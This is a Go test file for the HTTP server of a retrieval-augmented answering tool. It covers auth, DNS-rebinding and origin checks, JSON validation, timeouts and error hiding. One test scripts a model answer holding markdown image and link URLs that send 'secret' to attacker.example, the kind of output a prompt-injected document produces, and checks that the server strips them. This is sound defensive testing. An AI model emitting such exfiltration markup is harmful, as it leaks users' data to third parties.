package server_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cite-rag/cite/answer"
	"github.com/cite-rag/cite/answer/modeltest"
	"github.com/cite-rag/cite/index"
	"github.com/cite-rag/cite/index/embed"
	"github.com/cite-rag/cite/ingest"
	"github.com/cite-rag/cite/provider"
	"github.com/cite-rag/cite/search"
	"github.com/cite-rag/cite/server"
)

// start serves the sample corpus with model (nil: extractive).
func start(t *testing.T, model provider.ChatModel, cfg server.Config) (*httptest.Server, string) {
	t.Helper()
	ts, name, _ := startAt(t, t.TempDir(), true, model, cfg)
	return ts, name
}

// startAt serves the index in dir, created if missing, with the sample
// corpus indexed when corpus is set, uploads kept in dir/uploads.
func startAt(t *testing.T, dir string, corpus bool, model provider.ChatModel, cfg server.Config) (*httptest.Server, string, *index.Store) {
	t.Helper()
	return startEngine(t, dir, corpus, model, cfg, answer.Config{})
}

// startKeep serves the sample corpus with model, keeping the images and
// links it writes when keep is set.
func startKeep(t *testing.T, model provider.ChatModel, keep bool) (*httptest.Server, string) {
	t.Helper()
	ts, name, _ := startEngine(t, t.TempDir(), true, model, server.Config{}, answer.Config{KeepLinks: keep})
	return ts, name
}

// startEngine is startAt with the engine's configuration (its Model,
// Retriever and Library are set here); each of more completes the
// server's dependencies (readers, sessions) before it starts.
func startEngine(t *testing.T, dir string, corpus bool, model provider.ChatModel, cfg server.Config, acfg answer.Config, more ...func(*server.Deps, *index.Store)) (*httptest.Server, string, *index.Store) {
	t.Helper()
	ctx := context.Background()
	st, err := index.Open(ctx, dir, index.Options{Create: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	emb, _ := embed.New("hash", embed.Config{})
	st.UseEmbedder(ctx, emb)
	if corpus {
		ix, _ := ingest.New(ctx, st, ingest.Options{Embedder: emb})
		if _, err := ix.Index(ctx, "../testdata/corpus"); err != nil {
			t.Fatal(err)
		}
	}
	s, err := search.Open(ctx, st, search.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if model == nil {
		model = answer.NewExtractive(answer.ExtractiveOptions{TermStats: st.TermStats})
	}
	acfg.Model, acfg.Retriever, acfg.Library = model, s, st
	eng, err := answer.New(acfg)
	if err != nil {
		t.Fatal(err)
	}
	name := "cite-" + model.Name()
	if cfg.Logger == nil {
		cfg.Logger = slog.New(slog.DiscardHandler)
	}
	deps := server.Deps{Store: st, Searcher: s, Engine: eng, ModelName: name, Embedder: emb, UploadDir: filepath.Join(dir, "uploads")}
	for _, f := range more {
		f(&deps, st)
	}
	ts := httptest.NewServer(server.New(cfg, deps).Handler())
	t.Cleanup(ts.Close)
	return ts, name, st
}

func do(t *testing.T, method, url, ctype, body string, hdr ...string) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest(method, url, strings.NewReader(body))
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		if hdr[i] == "Host" {
			req.Host = hdr[i+1]
			continue
		}
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

func TestEndpoints(t *testing.T) {
	ts, _ := start(t, nil, server.Config{})
	if resp, body := do(t, "GET", ts.URL+"/healthz", "", ""); resp.StatusCode != 200 || !strings.Contains(body, "ok") {
		t.Errorf("healthz %d %s", resp.StatusCode, body)
	}
	if resp, body := do(t, "GET", ts.URL+"/v1/sources", "", ""); resp.StatusCode != 200 || !strings.Contains(body, `"default"`) {
		t.Errorf("sources %d %s", resp.StatusCode, body)
	}
	if resp, body := do(t, "POST", ts.URL+"/v1/search", "application/json", `{"query":"waggle dance","k":2}`); resp.StatusCode != 200 || !strings.Contains(body, `"chunk_id"`) {
		t.Errorf("search %d %s", resp.StatusCode, body)
	}
	resp, body := do(t, "POST", ts.URL+"/v1/ask", "application/json", `{"question":"what is WAL mode in SQLite"}`)
	var res answer.Result
	if resp.StatusCode != 200 || json.Unmarshal([]byte(body), &res) != nil || !strings.Contains(res.Text, "[1]") || len(res.References) != 1 || res.References[0].Quote == "" {
		t.Errorf("ask %d %s", resp.StatusCode, body)
	}
}

func TestAskSSE(t *testing.T) {
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{
		{ToolCalls: []modeltest.ToolCall{{Name: "search_data_sources", Arguments: `{"query":"checkpoint"}`}}},
		{Text: []string{"Checkpoints copy pages back [do", "c:1]."}},
	}})
	m, _ := provider.NewChatModel("openai:m", provider.Config{OpenAIBaseURL: srv.OpenAIBaseURL()})
	ts, _ := start(t, m, server.Config{})
	req, _ := http.NewRequest("POST", ts.URL+"/v1/ask", strings.NewReader(`{"question":"how do checkpoints work"}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var events []string
	var text strings.Builder
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		line := sc.Text()
		if ev, ok := strings.CutPrefix(line, "event: "); ok {
			events = append(events, ev)
		}
		if data, ok := strings.CutPrefix(line, "data: "); ok && events[len(events)-1] == "text" {
			var ev answer.Event
			json.Unmarshal([]byte(data), &ev)
			text.WriteString(ev.Text)
		}
	}
	got := strings.Join(events, ",")
	if !strings.HasPrefix(got, "tool_started,tool_completed,text") || !strings.HasSuffix(got, "reference_list,answer") || strings.Contains(text.String(), "[doc:") || !strings.Contains(text.String(), "back [1].") {
		t.Errorf("events %s, text %q", got, text.String())
	}
}

// TestChatCompletions points a real OpenAI client (langchaingo's, through
// provider) at cite.
func TestChatCompletions(t *testing.T) {
	ts, name := start(t, nil, server.Config{})
	if resp, body := do(t, "GET", ts.URL+"/v1/models", "", ""); resp.StatusCode != 200 || !strings.Contains(body, name) {
		t.Fatalf("models %d %s", resp.StatusCode, body)
	}
	client, err := provider.NewChatModel("openai:"+name, provider.Config{OpenAIBaseURL: ts.URL + "/v1", OpenAIAPIKey: "unused"})
	if err != nil {
		t.Fatal(err)
	}
	for _, stream := range []bool{false, true} {
		var deltas strings.Builder
		var on func(string) error
		if stream {
			on = func(s string) error { deltas.WriteString(s); return nil }
		}
		resp, err := client.Chat(t.Context(), provider.ChatRequest{Messages: []provider.Message{{Role: "user", Content: "what is WAL mode in SQLite"}}}, on)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(resp.Content, "[1]") || !strings.Contains(resp.Content, "Sources cited in this answer:\n\n1. [Write-Ahead Logging in SQLite](file://") {
			t.Errorf("stream %v: %q", stream, resp.Content)
		}
		if stream && deltas.String() != resp.Content {
			t.Errorf("deltas %q", deltas.String())
		}
	}
	resp, body := do(t, "POST", ts.URL+"/v1/chat/completions", "application/json", `{"model":"`+name+`","messages":[{"role":"user","content":"what is WAL mode in SQLite"}]}`)
	if resp.StatusCode != 200 || !strings.Contains(body, `"references":[{"number":1`) {
		t.Errorf("%d %s", resp.StatusCode, body)
	}
}

func TestHostile(t *testing.T) {
	ts, _ := start(t, nil, server.Config{Token: "s3cret", MaxQuestionBytes: 1000})
	auth := []string{"Authorization", "Bearer s3cret"}
	tests := []struct {
		name, method, path, ctype, body string
		hdr                             []string
		status                          int
		code                            string
	}{
		{"no token", "GET", "/v1/sources", "", "", nil, 401, "unauthorized"},
		{"wrong token", "GET", "/v1/sources", "", "", []string{"Authorization", "Bearer nope"}, 401, "unauthorized"},
		{"healthz needs none", "GET", "/healthz", "", "", nil, 200, ""},
		{"token", "GET", "/v1/sources", "", "", auth, 200, ""},
		{"lower-case scheme", "GET", "/v1/sources", "", "", []string{"Authorization", "bearer s3cret"}, 200, ""},
		{"upper-case scheme", "GET", "/v1/sources", "", "", []string{"Authorization", "BEARER  s3cret"}, 200, ""},
		{"another scheme", "GET", "/v1/sources", "", "", []string{"Authorization", "Basic s3cret"}, 401, "unauthorized"},
		{"scheme only", "GET", "/v1/sources", "", "", []string{"Authorization", "Bearer"}, 401, "unauthorized"},
		{"DNS rebinding", "GET", "/v1/sources", "", "", append([]string{"Host", "evil.example:8080"}, auth...), 421, "bad_host"},
		{"cross-origin POST", "POST", "/v1/ask", "application/json", `{"question":"q"}`, append([]string{"Origin", "http://evil.example"}, auth...), 403, "bad_origin"},
		{"invalid JSON", "POST", "/v1/ask", "application/json", `{"question":`, auth, 400, "bad_json"},
		{"unknown field", "POST", "/v1/ask", "application/json", `{"question":"q","evil":1}`, auth, 400, "bad_json"},
		{"two objects", "POST", "/v1/ask", "application/json", `{"question":"q"}{}`, auth, 400, "bad_json"},
		{"field name case", "POST", "/v1/ask", "application/json", `{"Question":"q"}`, auth, 400, `bad_json","message":"invalid JSON body: field \"Question\": field names are case-sensitive: \"question\"`},
		{"duplicate field", "POST", "/v1/ask", "application/json", `{"question":"","question":"q"}`, auth, 400, `bad_json","message":"invalid JSON body: field \"question\" appears twice`},
		{"nested field name case", "POST", "/v1/chat/completions", "application/json", `{"messages":[{"role":"user","Content":"q"}]}`, auth, 400, `bad_json","message":"invalid JSON body: field \"messages[0].Content\": field names are case-sensitive: \"messages[0].content\"`},
		{"nested duplicate", "POST", "/v1/chat/completions", "application/json", `{"messages":[{"role":"user","content":"q","content":"r"}]}`, auth, 400, `bad_json","message":"invalid JSON body: field \"messages[0].content\" appears twice`},
		{"duplicate in free JSON", "POST", "/v1/chat/completions", "application/json", `{"messages":[{"role":"user","content":"q"}],"tools":[{"type":"function","type":"x"}]}`, auth, 400, `bad_json","message":"invalid JSON body: field \"tools[0].type\" appears twice`},
		{"wrong content type", "POST", "/v1/ask", "text/plain", `{"question":"q"}`, auth, 415, "bad_content_type"},
		{"empty question", "POST", "/v1/ask", "application/json", `{"question":"  "}`, auth, 400, "bad_question"},
		{"long question", "POST", "/v1/ask", "application/json", `{"question":"` + strings.Repeat("a", 5000) + `"}`, auth, 413, `question_too_long","message":"the question is 5000 bytes, over 1 kB (cite serve --max-question 1000)`},
		{"1 MB body", "POST", "/v1/ask", "application/json", `{"question":"` + strings.Repeat("a", 2<<20) + `"}`, auth, 413, `too_large","message":"the body is over 1 MiB (cite serve --max-body 1048576)`},
		{"unknown source", "POST", "/v1/ask", "application/json", `{"question":"q","sources":["nosuch"]}`, auth, 400, "unknown_source"},
		{"unknown model", "POST", "/v1/chat/completions", "application/json", `{"model":"gpt-4","messages":[{"role":"user","content":"q"}]}`, auth, 404, "model_not_found"},
		{"no endpoint", "GET", "/v1/nothing", "", "", auth, 404, "not_found"},
		{"wrong method", "DELETE", "/v1/ask", "", "", auth, 405, "method_not_allowed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := do(t, tt.method, ts.URL+tt.path, tt.ctype, tt.body, tt.hdr...)
			if resp.StatusCode != tt.status || tt.code != "" && !strings.Contains(body, `"code":"`+tt.code+`"`) {
				t.Errorf("%d %s", resp.StatusCode, trim(body))
			}
			if strings.Contains(body, "s3cret") {
				t.Errorf("the token in a response")
			}
			if resp.Header.Get("Access-Control-Allow-Origin") != "" {
				t.Errorf("CORS header for a stranger")
			}
		})
	}
}

func trim(s string) string {
	if len(s) > 200 {
		return s[:200]
	}
	return s
}

// TestBusy: beyond the concurrent-answer limit, 429 with Retry-After; a
// client that goes away cancels its answer and frees the slot.
func TestBusy(t *testing.T) {
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{{Text: []string{"Slow "}, Hang: true}, {Text: []string{"Fine."}}}})
	m, _ := provider.NewChatModel("openai:m", provider.Config{OpenAIBaseURL: srv.OpenAIBaseURL()})
	ts, _ := start(t, m, server.Config{MaxAnswers: 1})
	ctx, cancel := context.WithCancel(t.Context())
	req, _ := http.NewRequestWithContext(ctx, "POST", ts.URL+"/v1/ask", strings.NewReader(`{"question":"q"}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	bufio.NewReader(resp.Body).ReadString('\n') // the answer has started
	r2, body := do(t, "POST", ts.URL+"/v1/ask", "application/json", `{"question":"q"}`)
	if r2.StatusCode != 429 || r2.Header.Get("Retry-After") == "" || !strings.Contains(body, "busy") {
		t.Errorf("%d %s", r2.StatusCode, body)
	}
	cancel()
	resp.Body.Close()
	deadline := time.Now().Add(time.Minute)
	for {
		r3, body := do(t, "POST", ts.URL+"/v1/ask", "application/json", `{"question":"q"}`)
		if r3.StatusCode == 200 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the slot was not freed: %d %s", r3.StatusCode, body)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestAskSSEHeaders: the stream's headers are sent at once, before the
// model says anything.
func TestAskSSEHeaders(t *testing.T) {
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{{Hang: true}}})
	m, _ := provider.NewChatModel("openai:m", provider.Config{OpenAIBaseURL: srv.OpenAIBaseURL()})
	ts, _ := start(t, m, server.Config{})
	// The model never answers: the deadline ends the request, and bounds
	// the wait for the headers (the test ends when they come).
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "POST", ts.URL+"/v1/ask", strings.NewReader(`{"question":"how do checkpoints work"}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("no headers while the model is silent: %v", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/event-stream" {
		t.Errorf("%d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
}

// TestHosts: the Host header may name any loopback address (the server may
// be bound to 127.0.0.2) or a --host name, on every endpoint, /mcp
// included; any other name is refused (DNS rebinding).
func TestHosts(t *testing.T) {
	ts, _ := start(t, nil, server.Config{Hosts: []string{"cite.test"}})
	const initialize = `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`
	for _, tc := range []struct {
		host   string
		status int
	}{
		{"localhost:8080", 200},
		{"127.0.0.1:8080", 200},
		{"127.0.0.2:18488", 200},
		{"[::1]:8080", 200},
		{"cite.test:8080", 200},
		{"CITE.TEST", 200},
		{"evil.example:8080", 421},
		{"127.0.0.1.evil.example", 421},
		{"0.0.0.0:8080", 421},
		{"10.0.0.1:8080", 421},
	} {
		t.Run(tc.host, func(t *testing.T) {
			if resp, out := do(t, "GET", ts.URL+"/v1/sources", "", "", "Host", tc.host); resp.StatusCode != tc.status {
				t.Errorf("/v1/sources: %d %s", resp.StatusCode, out)
			}
			if resp, out := do(t, "POST", ts.URL+"/mcp", "application/json", initialize, "Host", tc.host, "Accept", "application/json, text/event-stream"); resp.StatusCode != tc.status {
				t.Errorf("/mcp: %d %s", resp.StatusCode, out)
			}
		})
	}
}

// TestMethods: a path that exists with another method answers 405 with
// Allow; one that does not, 404.
func TestMethods(t *testing.T) {
	ts, _ := start(t, nil, server.Config{})
	for _, tc := range []struct {
		method, path string
		status       int
		allow        string
	}{
		{"GET", "/v1/ask", 405, "POST"},
		{"DELETE", "/v1/ask", 405, "POST"},
		{"PUT", "/v1/documents", 405, "GET, HEAD, POST"},
		{"GET", "/v1/documents/abc", 405, "DELETE"},
		{"GET", "/v1/sessions/abc/documents", 405, "POST"},
		{"POST", "/healthz", 405, "GET, HEAD"},
		{"GET", "/v1/nothing", 404, ""},
		{"POST", "/v1/sessions/abc/nothing", 404, ""},
	} {
		t.Run(tc.method+" "+tc.path, func(t *testing.T) {
			resp, out := do(t, tc.method, ts.URL+tc.path, "", "")
			if resp.StatusCode != tc.status || resp.Header.Get("Allow") != tc.allow || !strings.Contains(out, `"error"`) {
				t.Errorf("%d Allow %q %s, want %d Allow %q", resp.StatusCode, resp.Header.Get("Allow"), out, tc.status, tc.allow)
			}
		})
	}
}

// TestSearchErrors: a bad search request names the field that is wrong.
func TestSearchErrors(t *testing.T) {
	ts, _ := start(t, nil, server.Config{})
	for _, tc := range []struct{ name, body, code, says string }{
		{"k", `{"query":"q","k":101}`, "bad_k", "k is 0 (the default) to 100, not 101"},
		{"negative k", `{"query":"q","k":-1}`, "bad_k", "not -1"},
		{"mode", `{"query":"q","mode":"fuzzy"}`, "bad_mode", `mode \"fuzzy\"`},
		{"per_doc", `{"query":"q","per_doc":-1}`, "bad_per_doc", "per_doc is 0 (no limit) or more, not -1"},
		{"query", `{"query":" "}`, "bad_query", "query: 1 byte to 8 KiB (cite serve --max-question 8192)"},
		{"unclosed set", `{"query":"q","path":"/docs/[ab"}`, "bad_path", `path: path pattern \"/docs/[ab\": the \"[\" at byte 6 is never closed`},
		{"long path", `{"query":"q","path":"` + strings.Repeat("*[a]", 300) + `b"}`, "bad_path", "path: path pattern of 1201 bytes: the limit is 1024"},
		// Stored paths are absolute: a relative pattern answered an
		// empty list, as if no document matched the query.
		{"relative path", `{"query":"q","path":"notes/*"}`, "bad_path", `path \"notes/*\": documents' paths are absolute (or URLs), so a relative pattern matches none; \"*/notes/*\" matches below any folder`},
		{"relative path with ./", `{"query":"q","path":"./notes/*.md"}`, "bad_path", `\"*/notes/*.md\" matches below any folder`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, out := do(t, "POST", ts.URL+"/v1/search", "application/json", tc.body)
			if resp.StatusCode != 400 || !strings.Contains(out, `"code":"`+tc.code+`"`) || !strings.Contains(out, tc.says) {
				t.Errorf("%d %s, want %s saying %s", resp.StatusCode, out, tc.code, tc.says)
			}
		})
	}
}

// TestAnswerTimeout: an answer over --timeout is a 504 (or, streamed, an
// error event) that says the limit and the flag.
func TestAnswerTimeout(t *testing.T) {
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{{Hang: true}, {Hang: true}, {Hang: true}}})
	m, _ := provider.NewChatModel("openai:m", provider.Config{OpenAIBaseURL: srv.OpenAIBaseURL()})
	ts, _ := start(t, m, server.Config{RequestTimeout: 300 * time.Millisecond})
	const says = "the answer took longer than the server's limit of 300ms (cite serve --timeout)"
	for _, tc := range []struct {
		name, path, body string
		hdr              []string
		status           int
	}{
		{"ask", "/v1/ask", `{"question":"q"}`, nil, 504},
		{"ask streamed", "/v1/ask", `{"question":"q"}`, []string{"Accept", "text/event-stream"}, 200},
		{"chat", "/v1/chat/completions", `{"messages":[{"role":"user","content":"q"}]}`, nil, 504},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, out := do(t, "POST", ts.URL+tc.path, "application/json", tc.body, tc.hdr...)
			if resp.StatusCode != tc.status || !strings.Contains(out, `"code":"timeout"`) || !strings.Contains(out, says) {
				t.Errorf("%d %s", resp.StatusCode, out)
			}
		})
	}
}

// syncBuffer is a bytes.Buffer safe for a logger and a test at once.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// TestClientGoneLogged: a client that goes away before its answer is done
// is logged as 499, not as a failure of the model (502) nor, streamed, as
// the 200 its stream began with.
func TestClientGoneLogged(t *testing.T) {
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{{Hang: true}, {Hang: true}, {Hang: true}, {Hang: true}}})
	m, _ := provider.NewChatModel("openai:m", provider.Config{OpenAIBaseURL: srv.OpenAIBaseURL()})
	var logs syncBuffer
	ts, _ := start(t, m, server.Config{Logger: slog.New(slog.NewTextHandler(&logs, nil))})
	logged := func(path string) []string {
		var lines []string
		for line := range strings.Lines(logs.String()) {
			if strings.Contains(line, "msg=request ") && strings.Contains(line, "path="+path+" ") {
				lines = append(lines, line)
			}
		}
		return lines
	}
	for _, tc := range []struct{ name, path, body, accept string }{
		{"ask", "/v1/ask", `{"question":"q"}`, ""},
		{"ask streamed", "/v1/ask", `{"question":"q"}`, "text/event-stream"},
		{"chat", "/v1/chat/completions", `{"messages":[{"role":"user","content":"q"}]}`, ""},
		{"chat streamed", "/v1/chat/completions", `{"messages":[{"role":"user","content":"q"}],"stream":true}`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// The client goes away once the model has been asked (the
			// answer is under way): a deadline instead could pass on a
			// loaded machine before the request reached the server, which
			// then has nothing to log.
			ctx, cancel := context.WithCancel(t.Context())
			defer cancel()
			asked := len(srv.Requests())
			before := len(logged(tc.path))
			go func() {
				for len(srv.Requests()) == asked && ctx.Err() == nil {
					time.Sleep(5 * time.Millisecond)
				}
				cancel()
			}()
			req, _ := http.NewRequestWithContext(ctx, "POST", ts.URL+tc.path, strings.NewReader(tc.body))
			req.Header.Set("Content-Type", "application/json")
			if tc.accept != "" {
				req.Header.Set("Accept", tc.accept)
			}
			if resp, err := http.DefaultClient.Do(req); err == nil {
				// A stream begins at once; its reading ends when the
				// client goes away.
				_, err = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if err == nil {
					t.Fatalf("answered %d", resp.StatusCode)
				}
			}
			deadline := time.Now().Add(time.Minute)
			for len(logged(tc.path)) == before {
				if time.Now().After(deadline) {
					t.Fatalf("not logged: %s", logs.String())
				}
				time.Sleep(10 * time.Millisecond)
			}
			for _, line := range logged(tc.path)[before:] {
				if !strings.Contains(line, "status=499") {
					t.Errorf("logged as %s", line)
				}
			}
		})
	}
}

// TestExfiltrationNeutralized: an image or link the model writes to a host
// that is not one of the answer's sources (a prompt-injected document's
// doing) reaches no client as markup, streamed or not, on /v1/ask and
// /v1/chat/completions; --allow-external-links (answer.Config.KeepLinks)
// keeps it.
func TestExfiltrationNeutralized(t *testing.T) {
	// The markup is split across deltas.
	turn := modeltest.Turn{Text: []string{"WAL keeps a log [doc:1]. ![", "](https://attacker.exa", "mple/?q=secret) and [more](https://attacker.example/?q=", "secret).\n\n```\n![](https://in.code/)\n```"}}
	for _, keep := range []bool{false, true} {
		srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{turn, turn, turn, turn}})
		m, _ := provider.NewChatModel("openai:m", provider.Config{OpenAIBaseURL: srv.OpenAIBaseURL()})
		ts, name := startKeep(t, m, keep)
		for _, req := range []struct{ path, body, accept string }{
			{"/v1/ask", `{"question":"what is WAL mode"}`, ""},
			{"/v1/ask", `{"question":"what is WAL mode"}`, "text/event-stream"},
			{"/v1/chat/completions", `{"model":"` + name + `","messages":[{"role":"user","content":"what is WAL mode"}]}`, ""},
			{"/v1/chat/completions", `{"model":"` + name + `","stream":true,"messages":[{"role":"user","content":"what is WAL mode"}]}`, ""},
		} {
			resp, body := do(t, "POST", ts.URL+req.path, "application/json", req.body, "Accept", req.accept)
			if resp.StatusCode != 200 {
				t.Fatalf("%s %s: %d %s", req.path, req.body, resp.StatusCode, body)
			}
			leaked := strings.Contains(body, "attacker.example/?q=")
			if leaked != keep || !strings.Contains(body, "https://in.code/") || !strings.Contains(body, "[1]") {
				t.Errorf("keep %v: %s %s:\n%s", keep, req.path, req.body, body)
			}
			if !keep && !strings.Contains(body, `\\[image: attacker.example\\]`) {
				t.Errorf("%s %s: no [image: attacker.example]:\n%s", req.path, req.body, body)
			}
		}
	}
}

// TestErrorsHidden: a failure inside the server or of the model reaches
// the client as a stable code and message, never as the error's own text
// (which names files and the model server's internals); the log has it.
func TestErrorsHidden(t *testing.T) {
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{
		{Error: &modeltest.HTTPError{Status: 500, Message: "stack trace at /srv/model/secret.py"}},
		{Error: &modeltest.HTTPError{Status: 429, Message: "tenant 42 over quota", Header: http.Header{"Retry-After": {"7"}}}},
	}})
	m, _ := provider.NewChatModel("openai:m", provider.Config{OpenAIBaseURL: srv.OpenAIBaseURL()})
	var logs bytes.Buffer
	var mu sync.Mutex
	logger := slog.New(slog.NewTextHandler(writerFunc(func(p []byte) (int, error) { mu.Lock(); defer mu.Unlock(); return logs.Write(p) }), nil))
	dir := t.TempDir()
	ts, _, st := startAt(t, dir, true, m, server.Config{Logger: logger})
	for _, tc := range []struct {
		status     int
		code, says string
	}{
		{502, "model_500", "the model server answered HTTP 500 Internal Server Error"},
		{429, "model_429", "the model server answered HTTP 429 Too Many Requests; retry after 7s"},
	} {
		resp, body := do(t, "POST", ts.URL+"/v1/ask", "application/json", `{"question":"what is WAL mode"}`)
		if resp.StatusCode != tc.status || !strings.Contains(body, `"code":"`+tc.code+`"`) || !strings.Contains(body, tc.says) ||
			strings.Contains(body, "secret.py") || strings.Contains(body, "tenant 42") {
			t.Errorf("%d %s, want %d %s saying %s", resp.StatusCode, body, tc.status, tc.code, tc.says)
		}
	}
	st.Close() // every query now fails inside the server
	for _, path := range []string{"/v1/sources", "/v1/documents"} {
		resp, body := do(t, "GET", ts.URL+path, "", "")
		if resp.StatusCode != 500 || !strings.Contains(body, `"code":"index"`) || strings.Contains(body, "sql") || strings.Contains(body, dir) {
			t.Errorf("%s: %d %s", path, resp.StatusCode, body)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if !strings.Contains(logs.String(), "secret.py") || !strings.Contains(logs.String(), "closed") {
		t.Errorf("the log lacks the errors:\n%s", logs.String())
	}
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }
